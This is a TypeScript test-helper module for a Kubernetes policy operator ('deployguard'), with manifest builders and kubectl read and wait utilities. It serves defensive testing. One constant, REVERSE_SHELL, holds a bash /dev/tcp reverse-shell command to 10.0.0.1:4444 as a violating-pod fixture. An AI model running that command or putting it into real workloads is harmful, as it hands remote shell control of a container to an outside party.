// What the operator integration tests create and read back through kubectl: the names of our
// marks (docs/api.md section 4), manifests of pods and Deployments, and typed reads of pods, nodes,
// Events and policy status. One copy here, so every test file reads the cluster the same way.
import { kubectl, waitFor } from '../cluster.ts';
import { OperatorProcess, operatorAccount } from './harness.ts';

export const VIOLATIONS = 'deployguard.dev/violations';
export const DETECTED_AT = 'deployguard.dev/detected-at';
export const VIOLATING = 'deployguard.dev/violating';
export const ISOLATED = 'deployguard.dev/isolated';
export const CORDONED_BY = 'deployguard.dev/cordoned-by';
export const CORDONED_AT = 'deployguard.dev/cordoned-at';
/** reportingComponent of the operator's Events. */
export const REPORTER = 'deployguard.dev/operator';
export const RFC3339 = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/;
export const IMAGE = 'registry.example.com/app:1.0';
export const PRIVILEGED = { securityContext: { privileged: true } };
export const REVERSE_SHELL = { command: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] };
export const BASELINE = { podSecurity: { level: 'baseline' } };

export const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

export interface Meta {
  name: string;
  namespace?: string;
  uid: string;
  resourceVersion: string;
  generation?: number;
  labels?: Record<string, string>;
  annotations?: Record<string, string>;
  ownerReferences?: { apiVersion: string; kind: string; name: string; uid: string }[];
  deletionTimestamp?: string;
}
export interface PodJson {
  metadata: Meta;
  spec: { nodeName?: string };
  status?: { phase?: string; conditions?: { type: string; status: string }[] };
}
export interface NodeJson {
  metadata: Meta;
  spec: { unschedulable?: boolean };
}
export interface EventJson {
  reason: string;
  type: string;
  message: string;
  count?: number;
  reportingComponent?: string;
  involvedObject: { kind: string; name: string; namespace?: string; uid?: string };
}
export interface PolicyStatus {
  observedGeneration?: number;
  conditions?: { type: string; status: string; reason: string; message: string }[];
  violatingPods?: number;
  totalViolations?: number;
  actions?: Record<string, number>;
  totalActions?: number;
  breaker?: string;
  throttledNamespaces?: string[];
  loopingWorkloads?: { kind: string; namespace: string; name: string }[];
}
export interface PolicyJson {
  metadata: { generation: number };
  status?: PolicyStatus;
}

/** One container named `c` running IMAGE, with `extra` on top. */
export function container(extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { name: 'c', image: IMAGE, ...extra };
}

/** A pod of one container(`extra`); `spec` and `metadata` are merged over the defaults. */
export function pod(
  name: string,
  extra: Record<string, unknown> = {},
  spec: Record<string, unknown> = {},
  metadata: Record<string, unknown> = {},
): Record<string, unknown> {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, ...metadata },
    spec: { containers: [container(extra)], ...spec },
  };
}

/** A Deployment whose pods (label app=<name>) run one container(`extra`). */
export function deployment(
  name: string,
  replicas: number,
  extra: Record<string, unknown> = {},
): Record<string, unknown> {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name },
    spec: {
      replicas,
      selector: { matchLabels: { app: name } },
      template: { metadata: { labels: { app: name } }, spec: { containers: [container(extra)] } },
    },
  };
}

/** Creates the objects in one kubectl call and returns them as the API server stored them. */
export async function create(
  ns: string,
  ...objects: Record<string, unknown>[]
): Promise<PodJson[]> {
  const r = await kubectl(['create', '-n', ns, '-o', 'json', '-f', '-'], {
    input: JSON.stringify({ apiVersion: 'v1', kind: 'List', items: objects }),
  });
  // One JSON document per object, printed one after the other.
  return JSON.parse(`[${r.stdout.replace(/\}\n\{/g, '},{')}]`) as PodJson[];
}

/** The object, or undefined when it does not exist. */
export async function get<T>(kind: string, name: string, ns?: string): Promise<T | undefined> {
  const r = await kubectl(['get', kind, name, '-o', 'json', ...(ns ? ['-n', ns] : [])], {
    allowFail: true,
  });
  return r.code === 0 ? (JSON.parse(r.stdout) as T) : undefined;
}

/** Objects of a kind, in `ns` or cluster-scoped, optionally by label selector. */
export async function list<T>(kind: string, ns?: string, selector?: string): Promise<T[]> {
  const r = await kubectl([
    'get',
    kind,
    ...(ns ? ['-n', ns] : []),
    '-o',
    'json',
    ...(selector ? ['-l', selector] : []),
  ]);
  return (JSON.parse(r.stdout) as { items: T[] }).items;
}

/** Events of the namespace, optionally by field selector (e.g. {reason, 'involvedObject.name'}). */
export async function events(
  ns: string,
  selector: Record<string, string> = {},
): Promise<EventJson[]> {
  const fs = Object.entries(selector)
    .map(([k, v]) => `${k}=${v}`)
    .join(',');
  const r = await kubectl([
    'get',
    'events',
    '-n',
    ns,
    '-o',
    'json',
    ...(fs ? ['--field-selector', fs] : []),
  ]);
  return (JSON.parse(r.stdout) as { items: EventJson[] }).items;
}

/** The field selector of the Events with `reason` about the object called `name`. */
export function about(name: string, reason: string): Record<string, string> {
  return { reason, 'involvedObject.name': name };
}

/** Waits until at least `atLeast` such events exist, and returns them all. */
export async function waitForEvents(
  ns: string,
  selector: Record<string, string>,
  atLeast = 1,
  timeoutMs?: number,
): Promise<EventJson[]> {
  return waitFor(
    `${atLeast} event(s) ${JSON.stringify(selector)} in ${ns}`,
    async () => {
      const l = await events(ns, selector);
      return l.length >= atLeast ? l : undefined;
    },
    timeoutMs,
  );
}

/** How many times the pod was announced as a PolicyViolation (repeats of one Event counted). */
export async function violationEvents(ns: string, pod: string): Promise<number> {
  const l = await events(ns, about(pod, 'PolicyViolation'));
  return l.reduce((n, e) => n + (e.count ?? 1), 0);
}

/** How long a count is watched after it reached what a test expects, so a late duplicate shows. */
export const SETTLE_MS = 1000;

/**
 * Waits until `read()` gives a value `enough` accepts, then SETTLE_MS more, and returns a fresh
 * read for an exact check. Events are sent without the reconcile waiting for them, so one read
 * right after the pod's mark appears may come too early; this one cannot, and a duplicate that
 * follows the first within the settle still shows.
 */
export async function readSettled<T>(
  what: string,
  read: () => Promise<T>,
  enough: (v: T) => boolean,
  timeoutMs = 20_000,
): Promise<T> {
  await waitFor(
    what,
    async () => {
      const v = await read();
      return enough(v) ? true : undefined;
    },
    timeoutMs,
  );
  await sleep(SETTLE_MS);
  return read();
}

/** PolicyViolation Events of the pod, once there is at least one and a settle has passed. */
export async function settledViolationEvents(ns: string, pod: string): Promise<number> {
  return readSettled(
    `a PolicyViolation event about ${ns}/${pod}`,
    () => violationEvents(ns, pod),
    (n) => n >= 1,
  );
}

/**
 * Waits until the pod carries our violations annotation (written once the operator judged it)
 * and, if given, `also` holds for it.
 */
export async function annotated(
  ns: string,
  name: string,
  timeoutMs = 20_000,
  also: (p: PodJson) => boolean = () => true,
): Promise<PodJson> {
  return waitFor(
    `${ns}/${name} annotated`,
    async () => {
      const p = await get<PodJson>('pod', name, ns);
      return p?.metadata.annotations?.[VIOLATIONS] && also(p) ? p : undefined;
    },
    timeoutMs,
  );
}

export async function getPolicy(name: string): Promise<PolicyJson | undefined> {
  return get<PolicyJson>('containerdeploymentpolicy', name);
}

export async function policyStatus(name: string): Promise<PolicyStatus | undefined> {
  return (await getPolicy(name))?.status;
}

export async function waitForStatus(
  name: string,
  pred: (s: PolicyStatus) => boolean,
  timeoutMs?: number,
): Promise<PolicyStatus> {
  return waitFor(
    `status of ${name}`,
    async () => {
      const s = await policyStatus(name);
      return s && pred(s) ? s : undefined;
    },
    timeoutMs,
  );
}

/** Worker nodes nobody has cordoned (the control-plane node is never a candidate). */
export async function schedulableWorkers(): Promise<string[]> {
  return (await list<NodeJson>('nodes'))
    .filter((n) => !n.spec.unschedulable && n.metadata.name.startsWith('kwok-worker-'))
    .map((n) => n.metadata.name);
}

/** Undoes what the operator did to nodes for `policy`, so later tests find a whole cluster. */
export async function releaseNodes(policy: string): Promise<void> {
  for (const n of await list<NodeJson>('nodes')) {
    if (!n.metadata.annotations?.[CORDONED_BY]?.startsWith(`${policy}/`)) continue;
    await kubectl(['uncordon', n.metadata.name]);
    await kubectl(['annotate', 'node', n.metadata.name, `${CORDONED_BY}-`, `${CORDONED_AT}-`]);
  }
}

/** The operator of the running test, whose log is printed when the test fails. */
let current: OperatorProcess | undefined;

/** Starts an operator in its own namespace `own`, as its ServiceAccount. */
export async function start(own: string, args: string[] = []): Promise<OperatorProcess> {
  current = await OperatorProcess.start({
    namespace: own,
    kubeconfig: await operatorAccount(own),
    args,
  });
  return current;
}

/** afterEach: prints the warnings and errors of the test's operator (from start) if it failed. */
export function printLogOnFailure(this: Mocha.Context): void {
  if (this.currentTest?.state === 'failed' && current) {
    const lines = current.logs.filter((l) => l.level === 'warn' || l.level === 'error');
    console.error(
      lines
        .slice(-40)
        .map((l) => JSON.stringify(l))
        .join('\n'),
    );
  }
  current = undefined;
}
